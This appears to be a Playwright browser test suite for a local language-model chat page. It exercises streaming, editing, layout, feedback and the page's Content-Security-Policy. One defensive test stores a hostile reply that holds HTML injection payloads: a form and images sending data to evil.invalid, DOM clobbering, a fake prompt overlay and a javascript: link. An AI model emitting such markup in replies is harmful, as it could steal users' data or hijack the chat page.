"""The chat page in real headless Chromium (Debian's /usr/bin/chromium, driven by Playwright).

Screenshots land in tests/artifacts/ (wide and narrow windows) for a person to look at. Every page
opened here also collects Content-Security-Policy violations as errors, so each test shows the page
works under its CSP.
"""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect

from serve.live_server import start_server

CHROMIUM = "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--no-first-run", "--disable-sync"]
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
CODE = "def add(a, b):\n    return a + b"
QUESTION = f"Explain this code:\n\n```python\n{CODE}\n```"


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "Debian's chromium is missing: run `make test-deps`"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


# Injected by Playwright (outside the page's CSP): what the CSP blocked, for the tests to read. The
# CSP also forbids eval, so wait_for_function gets functions ("() => ..."), never bare expressions.
RECORD_VIOLATIONS = """window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective + " " + e.blockedURI));"""


def open_page(browser, url, **context):
    """A new page at `url`; `errors` collects uncaught errors and CSP violations as they happen."""
    ctx = browser.new_context(**context)
    ctx.add_init_script(RECORD_VIOLATIONS)
    page = ctx.new_page()
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(url)
    return ctx, page, errors


def wait_reply_done(page, count: int):
    page.wait_for_function(
        "n => document.querySelectorAll('.message.assistant').length >= n"
        " && !document.querySelector('.message.streaming')", arg=count, timeout=60_000)


@pytest.fixture(scope="module")
def web(tiny_loaded, tmp_path_factory):
    """A server of its own, allowing replies long enough to press Stop in."""
    from parley.engine import LocalEngine
    from parley.serve.app import ServeOptions, create_app

    app = create_app(ServeOptions(max_tokens=1000, db=tmp_path_factory.mktemp("web") / "db"), engine=LocalEngine(tiny_loaded))
    url, stop = start_server(app)
    yield url, app
    stop()


def test_chat_page_end_to_end(browser, web):
    url = web[0]
    ARTIFACTS.mkdir(exist_ok=True)
    ctx, page, errors = open_page(browser, url, viewport={"width": 1200, "height": 800})
    ctx.grant_permissions(["clipboard-read", "clipboard-write"], origin=url)
    page.wait_for_selector("#app:not([hidden])")
    assert page.is_hidden("#fallback")
    expect(page.locator("#model")).to_have_text("tiny")  # filled in by a request after load: wait for it
    assert page.is_hidden("#regenerate")  # nothing to reply to again yet

    # Settings: a system prompt and seeded sampling, saved with the conversation.
    page.click("#toggle-settings")
    page.fill("#system", "You are terse.")
    page.fill("#temperature", "0.7")
    page.fill("#top_k", "40")
    page.fill("#repetition_penalty", "1.1")
    page.fill("#seed", "1")
    page.fill("#max_new_tokens", "24")
    page.click("#toggle-settings")

    # Send: the question's code block is highlighted and has a copy button; the reply streams in.
    page.fill("#input", QUESTION)
    page.press("#input", "Enter")
    wait_reply_done(page, 1)
    code = page.locator(".message.user pre code.hljs")
    assert code.inner_text().strip() == CODE
    assert page.locator(".message.user pre code .hljs-keyword").first.inner_text() == "def"
    # The label says "Copied" for 1.5 s; record it rather than race a loaded machine to read it.
    page.evaluate("""() => { const b = document.querySelector('.message.user .codeblock .copy'); window.labels = [];
        new MutationObserver(() => window.labels.push(b.textContent)).observe(b, {childList: true}); }""")
    page.locator(".message.user .codeblock .copy").click()
    page.wait_for_function("() => window.labels.includes('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == CODE
    cid = page.evaluate("location.hash").lstrip("#")
    stored = httpx.get(f"{url}/v1/conversations/{cid}").json()
    assert stored["system"] == "You are terse."
    assert stored["params"]["temperature"] == 0.7 and stored["params"]["seed"] == 1
    assert stored["params"]["top_k"] == 40 and stored["params"]["repetition_penalty"] == 1.1
    assert page.is_visible("#regenerate")
    reply = stored["messages"][-1]["content"]
    assert reply and stored["messages"][0]["content"] == QUESTION
    assert page.locator(".message.assistant").count() == 1
    assert page.locator(".message.assistant .body").inner_text().strip()  # the tiny model's words
    page.screenshot(path=str(ARTIFACTS / "web-wide.png"))

    # Stop: a long reply, cut after a few words; the page and the store keep what was shown.
    page.click("#toggle-settings")
    page.fill("#max_new_tokens", "900")
    page.click("#toggle-settings")
    page.fill("#input", "Tell me everything.")
    page.press("#input", "Enter")
    page.wait_for_function("() => (document.querySelector('.message.streaming .body') || {}).textContent?.length > 5")
    page.click("#stop")
    wait_reply_done(page, 2)
    assert page.is_visible("#send") and page.is_hidden("#stop")
    page.wait_for_function(
        f"() => fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4)")
    partial = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"][-1]
    assert partial["role"] == "assistant" and partial["content"]
    tokens = len(web[1].state.engine.loaded.tokenizer(partial["content"])["input_ids"])
    assert tokens < 800, "Stop did not stop the reply"
    expect(page.locator(".message.assistant").nth(1).locator(".stopped-mark")).to_have_text("\u25A0 stopped")

    # Regenerate replaces the last reply.
    page.click("#toggle-settings")
    page.fill("#max_new_tokens", "10")
    page.click("#toggle-settings")
    page.click("#regenerate")
    wait_reply_done(page, 2)
    page.wait_for_function(
        f"() => fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4"
        f" && c.messages[3].content !== {partial['content']!r})")

    # Reload: the conversation is in the list, and opens with its messages.
    page.reload()
    page.wait_for_selector(f"#conversations li[data-id='{cid}']")
    assert page.locator(f"#conversations li[data-id='{cid}'] .open").inner_text().startswith("Explain this code")
    page.wait_for_function("() => document.querySelectorAll('.message').length === 4")

    expect(page.locator(".message.assistant").nth(1).locator(".stopped-mark")).to_have_count(0)  # regenerated whole

    # Rename in the list itself (no window.prompt), and delete (the browser's confirm dialog).
    page.click(f"#conversations li[data-id='{cid}'] .rename")
    page.fill(f"#conversations li[data-id='{cid}'] .rename-input", "Adding numbers")
    page.press(f"#conversations li[data-id='{cid}'] .rename-input", "Enter")
    page.wait_for_function(f"() => document.querySelector(\"#conversations li[data-id='{cid}'] .open\")?"
                           ".textContent === 'Adding numbers'")
    assert httpx.get(f"{url}/v1/conversations/{cid}").json()["title"] == "Adding numbers"

    # A narrow window: the list hides behind a button and slides over the chat.
    page.set_viewport_size({"width": 390, "height": 780})
    assert page.is_visible("#toggle-sidebar")
    page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().right <= 0")
    page.screenshot(path=str(ARTIFACTS / "web-narrow.png"))
    page.click("#toggle-sidebar")
    page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().x === 0")
    page.screenshot(path=str(ARTIFACTS / "web-narrow-list.png"))
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, "the page scrolls sideways in a narrow window"

    page.once("dialog", lambda dialog: dialog.accept())
    page.click(f"#conversations li[data-id='{cid}'] .delete")
    page.wait_for_function(f"() => !document.querySelector(\"#conversations li[data-id='{cid}']\")")
    assert httpx.get(f"{url}/v1/conversations/{cid}").status_code == 404
    assert errors == []
    ctx.close()


# A reply carrying HTML that, rendered, would take over the page: a second composer and
# message box (DOM clobbering by id), a style sheet that hides the real composer and draws a fake
# prompt, remote images that send data out, and a frame. It must show as text; the Markdown around it
# must still render.
HOSTILE = """Here is **bold** text, a [link](https://example.org/docs) and a table:

| left | right |
|:-----|------:|
| 1    | 2     |

- [x] a done task

```python
print("kept")
```

<form id="composer" action="http://evil.invalid/steal"><textarea id="input" name="q"></textarea>
<input id="send" type="submit"></form>
<style>#composer { display: none } body::after { content: "you> " }</style>
<img src="http://evil.invalid/leak.png?c=secret">
![pixel](http://evil.invalid/pixel.png)
<div id="messages" name="title" style="position: fixed; inset: 0">fake prompt</div>
<iframe src="http://evil.invalid/frame"></iframe>
<svg><style>*{color:red}</style></svg>
<a href="javascript:alert(1)">click</a>"""


LONG_LINE = "result = compute(" + ", ".join(f"argument_{i}" for i in range(30)) + ")"


@pytest.mark.parametrize("viewport", [{"width": 1280, "height": 900}, {"width": 390, "height": 844}],
                         ids=["desktop", "phone"])
def test_page_keeps_composer_code_and_reading_place_at_any_size(browser, web, viewport):
    url, app = web
    store = app.state.store
    cid = httpx.post(f"{url}/v1/conversations", json={"params": {"max_new_tokens": 150, "seed": 1}}).json()["id"]
    store.add_message(cid, "user", "Show me a long line")
    store.add_message(cid, "assistant", f"Here:\n\n```python\n{LONG_LINE}\n```\n")
    for i in range(12):  # enough to scroll
        store.add_message(cid, "user", f"question {i}")
        store.add_message(cid, "assistant", "an answer\n\n" * 4)
    store.rename(cid, f"Long line demo {viewport['width']}")  # the module's server has the other size's too

    ctx, page, errors = open_page(browser, f"{url}/#{cid}", viewport=viewport)
    page.wait_for_function("() => document.querySelectorAll('.message').length === 26")
    # The composer and Send are on screen, whole.
    for element in ("#input", "#send"):
        box = page.locator(element).bounding_box()
        assert box["y"] >= 0 and box["y"] + box["height"] <= viewport["height"], (element, box)
    # The Copy button sits in the block's header, not over the code: the code keeps the block's full
    # width and scrolls sideways to show the long line's end.
    block = page.locator(".message.assistant .codeblock").first
    pre, button = block.locator("pre").bounding_box(), block.locator(".copy").bounding_box()
    assert button["y"] + button["height"] <= pre["y"]
    widths = block.locator("pre").evaluate("p => [p.clientWidth, p.querySelector('code').offsetWidth, p.scrollWidth]")
    assert widths[1] >= widths[0] and widths[2] > widths[0]
    assert block.locator("pre code").inner_text().strip() == LONG_LINE

    # Scrolled up while a reply streams: the page stays where the reader is. The page itself scrolls up
    # as soon as the streaming reply shows a few characters: polling from here could miss the whole
    # stream of the tiny model on a busy machine (CI once timed out here after 30 s, most likely so).
    page.evaluate("""() => {
        const list = document.querySelector('#messages');
        const watch = new MutationObserver(() => {
            const body = document.querySelector('.message.streaming .body');
            if (body && body.textContent.length > 5) { list.scrollTop = 0; window.scrolledUp = true; watch.disconnect(); }
        });
        watch.observe(list, {childList: true, subtree: true, characterData: true});
    }""")
    page.fill("#input", "Tell me everything.")
    page.press("#input", "Enter")
    page.wait_for_function("() => window.scrolledUp === true")
    wait_reply_done(page, 14)  # every later token, and the last paint, left the reader where they were
    assert page.evaluate("document.querySelector('#messages').scrollTop") == 0
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"web-{viewport['width']}-scrolled.png"))

    # Edit and resend the first question: it and everything after it are replaced.
    page.locator(".message.user .edit").first.click()
    page.fill(".message.user .editor textarea", "Show me a short line")
    page.press(".message.user .editor textarea", "Enter")
    wait_reply_done(page, 1)
    page.wait_for_function(
        f"() => fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 2)")
    stored = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"]
    assert stored[0]["content"] == "Show me a short line" and page.locator(".message").count() == 2

    # The list: grouped by date, searchable.
    if viewport["width"] < 720:
        page.click("#toggle-sidebar")
    expect(page.locator("#conversations li.group").first).to_have_text("Today")
    page.fill("#search", f"long DEMO {viewport['width']}")
    expect(page.locator("#conversations li[data-id]")).to_have_count(1)
    page.fill("#search", "no such words")
    expect(page.locator("#conversations li[data-id]")).to_have_count(0)
    expect(page.locator("#conversations")).to_contain_text("No conversation matches")
    assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
    assert errors == []
    ctx.close()


def test_hostile_markup_in_a_stored_reply_stays_harmless_under_the_csp(browser, web):
    url, app = web
    policy = httpx.get(url).headers["content-security-policy"]
    for directive in ("default-src 'none'", "script-src 'self'", "connect-src 'self'", "img-src 'self' data:",
                      "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"):
        assert directive in policy
    cid = httpx.post(f"{url}/v1/conversations", json={"params": {"max_new_tokens": 4}}).json()["id"]
    app.state.store.add_message(cid, "user", "Show me <b>markup</b>")
    app.state.store.add_message(cid, "assistant", HOSTILE)  # as a prompt-injected model would write it

    ctx, page, errors = open_page(browser, f"{url}/#{cid}")
    outbound = []
    page.on("request", lambda r: outbound.append(r.url) if "evil.invalid" in r.url else None)
    page.wait_for_selector(".message.assistant .body table")
    body = page.locator(".message.assistant .body")
    # The Markdown is intact: emphasis, a link, an aligned table, a task, a highlighted code block.
    assert body.locator("strong").inner_text() == "bold"
    assert body.locator("a[href='https://example.org/docs']").count() == 1
    assert body.locator("td[align=right]").inner_text() == "2"
    assert "a done task" in body.locator("li").first.inner_text()
    assert body.locator("pre code.hljs.language-python").inner_text().strip() == 'print("kept")'
    # The markup is text: nothing that posts, styles, loads, frames or names an element survives.
    dangerous = "form, textarea, input, button:not(.copy), style, img, iframe, svg, [id], [name], [style], a[href^=javascript]"
    assert body.locator(dangerous).count() == 0
    assert '<form id="composer"' in body.inner_text() and "fake prompt" in body.inner_text()
    assert page.evaluate("document.querySelectorAll('#composer, #input, #send, #messages').length") == 4
    assert page.evaluate("document.forms.length") == 2  # the plain fallback's form and the composer
    assert page.is_visible("#composer")
    assert page.evaluate("getComputedStyle(document.body, '::after').content") == "none"

    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "web-hostile.png"))
    # The real composer still sends, through the API, to this conversation.
    page.fill("#input", "still mine")
    page.press("#input", "Enter")
    wait_reply_done(page, 2)
    messages = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"]
    assert [m["content"] for m in messages][2] == "still mine" and len(messages) == 4
    assert outbound == [] and errors == [] and page.evaluate("window.violations") == []

    # The CSP itself holds as the second line: markup that slipped past the sanitizer loads nothing.
    page.evaluate("""document.querySelector('#messages').insertAdjacentHTML('beforeend',
        '<img src="http://evil.invalid/late.png"><div style="color: red">styled</div>')""")
    page.wait_for_function("() => window.violations.length >= 2")
    blocked = " ".join(page.evaluate("window.violations"))
    assert "img-src http://evil.invalid/late.png" in blocked and "style-src-attr" in blocked
    ctx.close()


def test_without_javascript_the_plain_form_answers(browser, server):
    ctx, page, _ = open_page(browser, server[0], java_script_enabled=False)
    assert page.is_visible("#fallback") and page.is_hidden("#app")
    page.fill("#fallback textarea[name=message]", "Hello <there>")
    page.click("#fallback button[type=submit]")
    page.wait_for_selector("text=Parley:")
    assert "Hello <there>" in page.inner_text("body")
    ctx.close()


def test_api_key_is_asked_for_and_used(browser, tiny_loaded, tmp_path):
    from parley.engine import LocalEngine
    from parley.serve.app import ServeOptions, create_app

    url, stop = start_server(create_app(ServeOptions(api_keys=["sesame"], db=tmp_path / "db"), engine=LocalEngine(tiny_loaded)))
    try:
        ctx, page, _ = open_page(browser, url)
        page.wait_for_selector("#settings:not([hidden])")  # the 401 opened the settings at the key field
        expect(page.locator("#notice")).to_contain_text("API key")
        page.fill("#api-key", "sesame")
        page.press("#api-key", "Tab")  # change event: stored, and the page starts again
        page.wait_for_function("() => document.querySelector('#model').textContent === 'tiny'")
        ctx.close()
    finally:
        stop()


@pytest.mark.slow
def test_real_model_reply_has_a_highlighted_code_block(browser, embedded_model, tmp_path):
    from parley.engine import LocalEngine
    from parley.serve.app import ServeOptions, create_app

    url, stop = start_server(create_app(ServeOptions(db=tmp_path / "db"), engine=LocalEngine(embedded_model)))
    try:
        ctx, page, errors = open_page(browser, url, viewport={"width": 1000, "height": 800})
        page.wait_for_selector("#app:not([hidden])")
        page.click("#toggle-settings")
        page.fill("#temperature", "0")
        page.fill("#max_new_tokens", "40")
        page.click("#toggle-settings")
        page.fill("#input", "Write a Python function that adds two numbers.")
        page.press("#input", "Enter")
        wait_reply_done(page, 1)
        block = page.locator(".message.assistant pre code.hljs")
        assert "def " in block.first.inner_text()
        assert page.locator(".message.assistant pre .hljs-keyword").count() >= 1
        assert page.locator(".message.assistant .codeblock .copy").count() >= 1
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "web-real-model.png"))
        assert errors == []
        ctx.close()
    finally:
        stop()


def test_why_shows_a_heatmap_of_the_prompt_for_a_reply_or_a_selected_part(browser, web):
    """A stored exchange; "Why?" under the reply colours every prompt token; with part of the reply
    selected, the panel explains that part; all under the page's CSP, also at phone width."""
    url, app = web
    store = app.state.store
    cid = store.new_conversation(model="tiny", system="Answer with code.", params={})
    store.add_message(cid, "user", "Add a and b in Python.")
    store.add_message(cid, "assistant", CODE)
    ctx, page, errors = open_page(browser, f"{url}/#{cid}", viewport={"width": 390, "height": 800})
    page.wait_for_selector(".message.assistant .why-button")
    page.click(".message.assistant .why-button")
    page.wait_for_selector(".why .why-token", timeout=60_000)
    document = httpx.post(url + "/v1/explain", timeout=60, json={
        "messages": [{"role": "system", "content": "Answer with code."}, {"role": "user", "content": "Add a and b in Python."}],
        "reply": CODE}).json()
    tokens = page.locator(".why .why-token")
    assert tokens.count() == len(document["prompt_tokens"])
    assert "".join(tokens.all_text_contents()) == "".join(document["prompt_tokens"])
    coloured = page.eval_on_selector_all(".why .why-token", "els => els.filter(e => e.style.backgroundColor).length")
    assert coloured == tokens.count()
    expect(page.locator(".why .why-messages")).to_contain_text("1 user")
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "why-narrow.png"), full_page=True)
    page.click(".message.assistant .why-button")  # closes it
    expect(page.locator(".why")).to_have_count(0)
    page.evaluate("""() => {  // select "a + b" inside the reply, as a user's drag would
        const code = [...document.querySelectorAll('.message.assistant .body *')].find(e => e.textContent.includes('a + b') && !e.children.length);
        const text = code.firstChild, at = text.textContent.indexOf('a + b');
        const range = document.createRange(); range.setStart(text, at); range.setEnd(text, at + 5);
        getSelection().removeAllRanges(); getSelection().addRange(range);
    }""")
    page.click(".message.assistant .why-button")
    page.wait_for_selector(".why .why-token", timeout=60_000)
    expect(page.locator(".why p")).to_contain_text("a + b")
    assert errors == [] and page.evaluate("() => window.violations") == []
    ctx.close()


def test_feedback_edit_and_versions_on_the_page(browser, web):
    """Thumbs with a note, ‹1/2› between a reply and its regeneration (the choice survives a reload),
    and editing a reply: each lands in the store through the feedback routes."""
    url = web[0]
    ctx, page, errors = open_page(browser, url, viewport={"width": 1000, "height": 800})
    page.wait_for_selector("#app:not([hidden])")
    page.click("#toggle-settings")
    page.fill("#max_new_tokens", "8")
    page.fill("#temperature", "1.0")
    page.click("#toggle-settings")
    page.fill("#input", "Name a colour")
    page.press("#input", "Enter")
    wait_reply_done(page, 1)
    bar = page.locator(".message.assistant .feedback")
    expect(bar.locator(".rate-bad")).to_be_visible()
    cid = page.evaluate("location.hash").lstrip("#")

    page.once("dialog", lambda dialog: dialog.accept("too vague"))
    bar.locator(".rate-bad").click()
    expect(bar.locator(".rate-bad")).to_have_attribute("aria-pressed", "true")
    (rated,) = httpx.get(f"{url}/v1/conversations/{cid}/feedback").json()["data"]
    assert (rated["kind"], rated["note"]) == ("bad", "too vague")

    page.click("#regenerate")
    wait_reply_done(page, 1)
    expect(page.locator(".message.assistant .feedback .versions")).to_have_text("2/2")
    reply_id = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"][-1]["id"]
    first, second = httpx.get(f"{url}/v1/conversations/{cid}/messages/{reply_id}/versions").json()["data"]
    page.locator(".message.assistant .feedback .previous").click()
    expect(page.locator(".message.assistant .feedback .versions")).to_have_text("1/2")
    page.reload()  # the version chosen is the one stored
    expect(page.locator(".message.assistant .feedback .versions")).to_have_text("1/2")
    assert page.locator(".message.assistant .body").inner_text().strip() == first.strip()

    page.locator(".message.assistant .feedback .edit").click()
    page.fill(".message.assistant .edit-reply", "Blue.")
    page.click(".message.assistant .save-edit")
    expect(page.locator(".message.assistant .feedback .versions")).to_have_text("3/3")
    assert page.locator(".message.assistant .body").inner_text().strip() == "Blue."
    kinds = {f["kind"] for f in httpx.get(f"{url}/v1/conversations/{cid}/feedback").json()["data"]}
    assert {"bad", "edit"} <= kinds and (("pick" in kinds) == (first != second))
    page.screenshot(path=str(ARTIFACTS / "web-feedback.png"))
    assert errors == []
    ctx.close()
